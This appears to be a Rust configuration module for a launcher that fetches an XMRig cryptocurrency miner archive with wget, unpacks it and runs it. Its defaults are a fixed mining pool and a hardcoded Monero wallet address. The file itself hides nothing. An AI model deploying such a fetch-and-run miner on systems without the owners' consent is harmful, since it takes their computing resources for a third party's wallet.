// src/config/model.rs

use std::path::PathBuf;

use serde::Deserialize;

use crate::types::FetcherKind;

pub const DEFAULT_ARCHIVE_URL: &str =
    "https://github.com/xmrig/xmrig/releases/download/v6.25.0/xmrig-6.25.0-linux-static-x64.tar.gz";
pub const DEFAULT_EXTRACT_DIR: &str = "xmrig-6.25.0";
pub const DEFAULT_EXECUTABLE: &str = "xmrig";
pub const DEFAULT_BUNDLED_CONFIG: &str = "config.json";

pub const DEFAULT_POOL_URL: &str = "pool.hashvault.pro:443";
pub const DEFAULT_USER: &str = "48MiPkZnRL49XTjr4R7YkMLmyNigqxGp5WE7L5YRanoJjjdJwK4HqNGNeGnrC2BxsWad185WQK7nv8LEUE8Sxj6KJptmMV5";
pub const DEFAULT_PASS: &str = "worker";
pub const DEFAULT_DONATE_LEVEL: u8 = 1;
pub const DEFAULT_TLS_FINGERPRINT: &str =
    "420c7850e09b7c0bdcf748a7da9eb3647daf8515718f36d9ccfdd6b9ff834b14";

pub const DEFAULT_EXTERNAL_TOOL: &str = "wget";

/// Configuration exactly as read from a TOML file, before validation.
///
/// ```toml
/// [artifact]
/// work_dir = "."
/// archive_url = "https://example.com/xmrig-6.25.0-linux-static-x64.tar.gz"
/// extract_dir = "xmrig-6.25.0"
/// executable = "xmrig"
///
/// [fetch]
/// preferred = "builtin"
///
/// [miner]
/// url = "pool.example.org:443"
/// user = "wallet"
/// tls = true
/// ```
///
/// All sections are optional; missing fields take the built-in defaults.
#[derive(Debug, Clone, Deserialize, Default)]
pub struct RawConfigFile {
    #[serde(default)]
    pub artifact: ArtifactSection,

    #[serde(default)]
    pub fetch: FetchSection,

    #[serde(default)]
    pub miner: MinerSection,
}

/// Validated configuration. Construct through `ConfigFile::try_from(raw)`.
#[derive(Debug, Clone)]
pub struct ConfigFile {
    pub artifact: ArtifactSection,
    pub fetch: FetchSection,
    pub miner: MinerSection,
}

impl ConfigFile {
    /// Only called after validation has passed.
    pub(crate) fn new_unchecked(
        artifact: ArtifactSection,
        fetch: FetchSection,
        miner: MinerSection,
    ) -> Self {
        Self {
            artifact,
            fetch,
            miner,
        }
    }
}

/// `[artifact]` section: where the release archive comes from and where it
/// lands on disk.
#[derive(Debug, Clone, Deserialize)]
pub struct ArtifactSection {
    /// Directory that receives the archive and the extracted tree.
    #[serde(default = "default_work_dir")]
    pub work_dir: PathBuf,

    #[serde(default = "default_archive_url")]
    pub archive_url: String,

    /// File name for the downloaded archive. Derived from the URL when unset.
    #[serde(default)]
    pub archive_name: Option<String>,

    /// Top-level directory the archive unpacks into.
    #[serde(default = "default_extract_dir")]
    pub extract_dir: String,

    /// Executable path, relative to `extract_dir`.
    #[serde(default = "default_executable")]
    pub executable: String,

    /// Config file shipped inside the archive; removed after provisioning so
    /// the miner runs purely from its command line.
    #[serde(default = "default_bundled_config")]
    pub bundled_config: String,
}

fn default_work_dir() -> PathBuf {
    PathBuf::from(".")
}

fn default_archive_url() -> String {
    DEFAULT_ARCHIVE_URL.to_string()
}

fn default_extract_dir() -> String {
    DEFAULT_EXTRACT_DIR.to_string()
}

fn default_executable() -> String {
    DEFAULT_EXECUTABLE.to_string()
}

fn default_bundled_config() -> String {
    DEFAULT_BUNDLED_CONFIG.to_string()
}

impl Default for ArtifactSection {
    fn default() -> Self {
        Self {
            work_dir: default_work_dir(),
            archive_url: default_archive_url(),
            archive_name: None,
            extract_dir: default_extract_dir(),
            executable: default_executable(),
            bundled_config: default_bundled_config(),
        }
    }
}

impl ArtifactSection {
    /// Name of the archive file: `archive_name` if set, otherwise the last
    /// path segment of `archive_url` (query and fragment stripped).
    pub fn archive_file_name(&self) -> Option<String> {
        if let Some(name) = &self.archive_name {
            return Some(name.clone());
        }
        let without_query = self
            .archive_url
            .split(['?', '#'])
            .next()
            .unwrap_or_default();
        without_query
            .rsplit('/')
            .next()
            .filter(|s| !s.is_empty() && !s.contains(':'))
            .map(str::to_string)
    }

    pub fn archive_path(&self) -> PathBuf {
        let name = self
            .archive_file_name()
            .unwrap_or_else(|| "artifact.tar.gz".to_string());
        self.work_dir.join(name)
    }

    pub fn extract_path(&self) -> PathBuf {
        self.work_dir.join(&self.extract_dir)
    }

    pub fn executable_path(&self) -> PathBuf {
        self.extract_path().join(&self.executable)
    }

    pub fn bundled_config_path(&self) -> PathBuf {
        self.extract_path().join(&self.bundled_config)
    }
}

/// `[fetch]` section.
#[derive(Debug, Clone, Deserialize)]
pub struct FetchSection {
    /// `"auto"`, `"external"` or `"builtin"`.
    #[serde(default)]
    pub preferred: FetcherKind,

    /// Program used by the external fetcher; looked up on `PATH`.
    #[serde(default = "default_external_tool")]
    pub external_tool: String,
}

fn default_external_tool() -> String {
    DEFAULT_EXTERNAL_TOOL.to_string()
}

impl Default for FetchSection {
    fn default() -> Self {
        Self {
            preferred: FetcherKind::default(),
            external_tool: default_external_tool(),
        }
    }
}

/// `[miner]` section: the command line handed to the miner.
#[derive(Debug, Clone, Deserialize)]
pub struct MinerSection {
    /// Pool endpoint, `host:port`.
    #[serde(default = "default_pool_url")]
    pub url: String,

    /// Account identifier (wallet address).
    #[serde(default = "default_user")]
    pub user: String,

    #[serde(default = "default_pass")]
    pub pass: String,

    #[serde(default = "default_donate_level")]
    pub donate_level: u8,

    #[serde(default = "default_tls")]
    pub tls: bool,

    /// Expected pool certificate fingerprint (SHA-256, hex). An empty string
    /// disables pinning.
    #[serde(default = "default_tls_fingerprint")]
    pub tls_fingerprint: Option<String>,

    /// Appended verbatim after the generated flags.
    #[serde(default)]
    pub extra_args: Vec<String>,
}

fn default_pool_url() -> String {
    DEFAULT_POOL_URL.to_string()
}

fn default_user() -> String {
    DEFAULT_USER.to_string()
}

fn default_pass() -> String {
    DEFAULT_PASS.to_string()
}

fn default_donate_level() -> u8 {
    DEFAULT_DONATE_LEVEL
}

fn default_tls() -> bool {
    true
}

fn default_tls_fingerprint() -> Option<String> {
    Some(DEFAULT_TLS_FINGERPRINT.to_string())
}

impl Default for MinerSection {
    fn default() -> Self {
        Self {
            url: default_pool_url(),
            user: default_user(),
            pass: default_pass(),
            donate_level: default_donate_level(),
            tls: default_tls(),
            tls_fingerprint: default_tls_fingerprint(),
            extra_args: Vec::new(),
        }
    }
}

impl MinerSection {
    /// Effective fingerprint, treating an empty string as unset.
    pub fn fingerprint(&self) -> Option<&str> {
        self.tls_fingerprint
            .as_deref()
            .map(str::trim)
            .filter(|s| !s.is_empty())
    }

    /// Argument vector passed to the miner.
    ///
    /// Order: `--url`, `--user`, `--pass`, `--donate-level`, then `--tls` and
    /// `--tls-fingerprint` when TLS is on, then `extra_args`.
    pub fn to_args(&self) -> Vec<String> {
        let mut args = vec![
            "--url".to_string(),
            self.url.clone(),
            "--user".to_string(),
            self.user.clone(),
            "--pass".to_string(),
            self.pass.clone(),
            "--donate-level".to_string(),
            self.donate_level.to_string(),
        ];

        if self.tls {
            args.push("--tls".to_string());
            if let Some(fp) = self.fingerprint() {
                args.push("--tls-fingerprint".to_string());
                args.push(fp.to_string());
            }
        }

        args.extend(self.extra_args.iter().cloned());
        args
    }
}
